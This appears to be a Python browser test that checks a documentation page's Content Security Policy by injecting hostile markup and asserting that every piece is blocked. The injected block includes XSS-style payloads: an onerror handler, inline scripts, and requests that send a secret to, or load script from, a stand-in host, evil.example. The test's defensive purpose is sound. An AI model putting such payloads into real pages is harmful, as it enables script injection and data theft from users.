"""The page that shows the contract, in a browser: all of it is there, and its policy lets in nothing else."""

from tests.support.browser import browsing, until
from tests.support.server import LiveServer

_KNOWN = [
    ["script-src", "eval"],  # the viewer's validator asks whether it might compile code, and does without
    ["style-src-attr", "inline"],  # the width of an example's line numbers
]
"""What the viewer tries, is not allowed, and can do without."""

_INJECTED = """
    document.body.insertAdjacentHTML("beforeend", `
      <style>body { display: none !important }</style>
      <img src="x" onerror="window.isOurs = false">
      <img src="https://evil.example/?secret">
      <p id="injected" style="display: none">x</p>`);
    document.body.append(Object.assign(document.createElement("script"), { text: "window.isOurs = false" }));
    document.body.append(Object.assign(document.createElement("script"), { src: "https://evil.example/x.js" }));
    fetch("https://evil.example/?secret").catch(() => {});
"""


async def test_the_page_shows_the_contract_under_its_policy() -> None:
    """With its looks, without asking anybody else; and what somebody gets into it does nothing."""
    with LiveServer() as server:
        async with browsing(viewport={"width": 1400, "height": 2000}) as tab:
            await tab.goto(f"{server.url}/docs")
            await until(tab, "document.body.innerText.includes('Send a message and stream the reply')")
            await until(tab, "document.body.innerText.includes('ReplyStream')")
            assert await tab.evaluate("[...document.querySelectorAll('style')].every((style) => style.sheet)")
            assert await tab.evaluate("document.styleSheets.length") >= 4
            assert (
                await tab.evaluate("getComputedStyle(document.querySelector('h1')).fontFamily") != '"Times New Roman"'
            )
            for violation in await tab.evaluate("violations"):
                assert violation in _KNOWN
            await tab.evaluate("window.isOurs = true; window.violations.length = 0; " + _INJECTED)
            await until(tab, "violations.length >= 6")
            forbidden = {directive for directive, _ in await tab.evaluate("violations")}
            assert forbidden == {
                "style-src-elem",
                "style-src-attr",
                "script-src-attr",
                "script-src-elem",
                "img-src",
                "connect-src",
            }
            assert await tab.evaluate("window.isOurs")
            assert await tab.evaluate("getComputedStyle(document.body).display") != "none"
            assert await tab.evaluate("getComputedStyle(document.getElementById('injected')).display") != "none"
